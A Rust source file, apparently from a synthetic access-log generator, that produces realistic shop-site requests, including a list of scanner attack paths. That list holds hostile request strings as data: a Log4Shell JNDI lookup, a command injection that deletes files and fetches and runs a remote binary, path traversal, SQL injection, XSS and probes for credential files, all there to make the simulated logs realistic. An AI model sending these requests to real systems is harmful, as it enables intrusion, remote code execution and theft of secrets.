//! What there is to ask for.

use crate::decimal::push_decimal;
use crate::deck::Deck;
use crate::random::Random;
use crate::shop::text::{Log, Text};
use crate::user_agents::Behaviour;
use crate::words::WORDS;

/// Part of the site, which decides method, status and size.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Part {
    Page,
    Asset,
    Api,
    Health,
    /// Nothing the site has: doors that somebody tries.
    Attack,
}

/// A request target.
pub(crate) struct Target {
    start: Text,
    /// If not 0, each request has a number below this between `start` and `end`, so that there is no
    /// end of distinct paths.
    number_below: u64,
    end: Text,
    /// Size of the answer in bytes.
    pub(crate) size: u64,
}

impl Target {
    fn fixed(target: &[u8], size: u64) -> Self {
        Self::numbered(target, 0, b"", size)
    }

    fn numbered(start: &[u8], number_below: u64, end: &[u8], size: u64) -> Self {
        Self { start: Text::new(start), number_below, end: Text::new(end), size }
    }

    pub(crate) fn push(&self, out: &mut Vec<u8>, log: Log, random: &mut Random) {
        out.extend_from_slice(self.start.in_log(log));
        if self.number_below > 0 {
            push_decimal(out, random.below(self.number_below));
            out.extend_from_slice(self.end.in_log(log));
        }
    }
}

/// All targets, the popular ones of each part first.
pub(crate) struct Site {
    pages: Deck<Target>,
    assets: Deck<Target>,
    api: Deck<Target>,
    health: Deck<Target>,
    attacks: Deck<Target>,
}

impl Site {
    pub(crate) fn new(random: &mut Random) -> Self {
        Self {
            pages: Deck::ranked(pages(random)),
            assets: Deck::ranked(assets(random)),
            api: Deck::ranked(api(random)),
            health: Deck::weighted(HEALTH_CHECKS.map(|(target, weight, size)| (Target::fixed(target, size), weight))),
            attacks: Deck::ranked(ATTACKS.iter().map(|target| Target::fixed(target, 0)).collect()),
        }
    }

    /// The part a visitor turns to.
    pub(crate) fn choose_part(behaviour: Behaviour, random: &mut Random) -> Part {
        let [page, asset, api] = match behaviour {
            Behaviour::Browser => [25, 50, 25],
            Behaviour::Crawler => [85, 10, 0],
            Behaviour::Script => [15, 5, 70],
            Behaviour::Probe => return Part::Health,
        };
        match random.below(100) {
            roll if roll < page => Part::Page,
            roll if roll < page + asset => Part::Asset,
            roll if roll < page + asset + api => Part::Api,
            _ => Part::Attack,
        }
    }

    pub(crate) fn draw(&self, part: Part, random: &mut Random) -> &Target {
        match part {
            Part::Page => self.pages.draw(random),
            Part::Asset => self.assets.draw(random),
            Part::Api => self.api.draw(random),
            Part::Health => self.health.draw(random),
            Part::Attack => self.attacks.draw(random),
        }
    }
}

const HEALTH_CHECKS: [(&[u8], u32, u64); 4] =
    [(b"/healthz", 50, 2), (b"/readyz", 25, 2), (b"/metrics", 15, 18_432), (b"/", 10, 12_873)];

/// As seen on any public server, escaped or not as the scanners send them.
const ATTACKS: [&[u8]; 32] = [
    b"/.env",
    b"/wp-login.php",
    b"/xmlrpc.php",
    b"/.git/config",
    b"/wp-admin/setup-config.php",
    b"/phpmyadmin/index.php",
    b"/actuator/health",
    b"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    b"/boaform/admin/formLogin?username=admin&psd=admin",
    b"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60x%60)",
    b"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array",
    b"/..%2f..%2f..%2f..%2fetc/passwd",
    b"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    b"/?x=${jndi:ldap://192.0.2.7:1389/a}",
    b"/search?q=\"><script>alert(1)</script>",
    b"/products?id=1'+OR+'1'='1",
    b"/products?id=1%20UNION%20SELECT%20NULL,NULL,version()--",
    b"/HNAP1/",
    b"/solr/admin/info/system?wt=json",
    b"/owa/auth/logon.aspx",
    b"/server-status",
    b"/config.json",
    b"/backup.zip",
    b"/.aws/credentials",
    b"/.DS_Store",
    b"/admin/",
    b"/shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.66/jaws;sh+/tmp/jaws",
    b"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    b"/ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application",
    b"/\xff\xfe\x01",
    b"/.well-known/security.txt",
    b"/telescope/requests",
];

/// Percent-encoded as browsers send it.
const ENCODED_WORDS: [&str; 12] = [
    "caf%C3%A9",
    "K%C3%BCche",
    "d%C3%A9cor",
    "%E6%9C%A8%E8%A3%BD",
    "sm%C3%B6rg%C3%A5s",
    "%D0%BB%D0%B0%D0%BC%D0%BF%D0%B0",
    "ni%C3%B1o",
    "50%25%20off",
    "a%2Fb",
    "R%26D",
    "stra%C3%9Fe",
    "%F0%9F%8E%84",
];

/// Sent as bare UTF-8 by sloppy clients; the access log has it escaped.
const BARE_UTF8_WORDS: [&str; 4] = ["café", "Küche", "лампа", "木製"];

fn pages(random: &mut Random) -> Vec<Target> {
    const PAGES: usize = 3000;
    let popular = ["/", "/login", "/cart", "/robots.txt", "/new", "/sale", "/account", "/contact"];
    let mut pages: Vec<Target> =
        popular.iter().map(|page| Target::fixed(page.as_bytes(), random.magnitude(10, 15))).collect();
    while pages.len() < PAGES {
        let page = page(random);
        pages.push(Target::fixed(page.as_bytes(), random.magnitude(11, 16)));
    }
    pages
}

fn page(random: &mut Random) -> String {
    let mut word = || *random.pick(&WORDS);
    let (first, second, third) = (word(), word(), word());
    let encoded = *random.pick(&ENCODED_WORDS);
    let bare = *random.pick(&BARE_UTF8_WORDS);
    let number = random.between(2, 999);
    let few = random.between(2, 20);
    match random.below(100) {
        0..30 => format!("/p/{first}-{second}-{number}"),
        30..45 => format!("/c/{first}/{second}"),
        45..55 => format!("/c/{first}?page={few}"),
        55..60 => format!("/c/{first}?sort=price&colour={second}&page={few}"),
        60..75 => {
            let year = random.between(2019, 2025);
            let month = random.between(1, 12);
            format!("/blog/{year}/{month:02}/{first}-{second}-{third}")
        }
        75..83 => format!("/search?q={first}+{second}"),
        83..89 => format!("/search?q={encoded}+{first}&page={few}"),
        89..93 => format!("/tag/{encoded}/{first}"),
        93..96 => format!("/help/{first}-{second}.html"),
        96..98 => {
            format!("/p/{first}-{second}-{number}?utm_source=newsletter&utm_medium=email&utm_campaign={third}-{few}")
        }
        98 => format!("/tag/{bare}/{number}"),
        _ => format!(
            "/login?next=https%3A%2F%2Fexample.com%2Fp%2F{first}-{second}-{number}%3Fref%3D{third}&token={:016x}{:016x}",
            random.next(),
            random.next()
        ),
    }
}

fn assets(random: &mut Random) -> Vec<Target> {
    const ASSETS: usize = 1500;
    let mut assets = vec![
        Target::fixed(b"/favicon.ico", 1150),
        Target::fixed(b"/static/site.css", 23_918),
        Target::fixed(b"/static/site.js", 148_302),
    ];
    while assets.len() < ASSETS {
        assets.push(asset(random));
    }
    assets
}

fn asset(random: &mut Random) -> Target {
    let word = *random.pick(&WORDS);
    let number = random.between(100, 99_999);
    let hash = random.next() as u32;
    let (path, size) = match random.below(100) {
        0..40 => (format!("/img/p/{number}.webp"), random.magnitude(12, 17)),
        40..55 => (format!("/img/{word}-{number}_2x.jpg"), random.magnitude(14, 20)),
        55..75 => (format!("/static/{word}.{hash:08x}.js"), random.magnitude(9, 18)),
        75..85 => (format!("/static/{word}.{hash:08x}.css"), random.magnitude(8, 16)),
        85..92 => (format!("/icons/{word}.svg"), random.magnitude(8, 12)),
        92..96 => (format!("/fonts/{word}.woff2?v={number}"), random.magnitude(14, 17)),
        96..98 => (format!("/static/{word}.{hash:08x}.js.map"), random.magnitude(16, 22)),
        _ => {
            // Some past 4 GiB, where a 32-bit size would overflow.
            let (low_bits, high_bits) = if random.one_in(4) { (33, 34) } else { (20, 32) };
            let size = random.magnitude(low_bits, high_bits);
            (format!("/downloads/{word}-{number}.zip"), size)
        }
    };
    Target::fixed(path.as_bytes(), size)
}

fn api(random: &mut Random) -> Vec<Target> {
    const ENDPOINTS: usize = 400;
    let mut api = vec![
        Target::fixed(b"/api/v1/session", 182),
        Target::fixed(b"/api/v1/cart", 640),
        Target::numbered(b"/api/v1/orders/", 100_000, b"", 1210),
    ];
    while api.len() < ENDPOINTS {
        api.push(endpoint(random));
    }
    api
}

fn endpoint(random: &mut Random) -> Target {
    const NOUNS: [&str; 12] = [
        "orders", "users", "items", "carts", "stock", "prices", "reviews", "invoices", "returns", "events", "offers",
        "images",
    ];
    let noun = *random.pick(&NOUNS);
    let other = *random.pick(&NOUNS);
    let word = *random.pick(&WORDS);
    let version = random.between(1, 2);
    let size = random.magnitude(6, 13);
    let numbered = |start: String, below, end: String| Target::numbered(start.as_bytes(), below, end.as_bytes(), size);
    match random.below(10) {
        0..4 => numbered(format!("/api/v{version}/{noun}/"), 1_000_000, String::new()),
        4..6 => numbered(format!("/api/v{version}/{noun}/"), 100_000, format!("/{other}")),
        6..8 => numbered(format!("/api/v{version}/{noun}?page="), 40, "&limit=50".to_owned()),
        8 => numbered(format!("/api/v{version}/{noun}?{word}="), 1_000, String::new()),
        _ => numbered(format!("/api/v{version}/events?since="), 1_762_425_015, String::new()),
    }
}
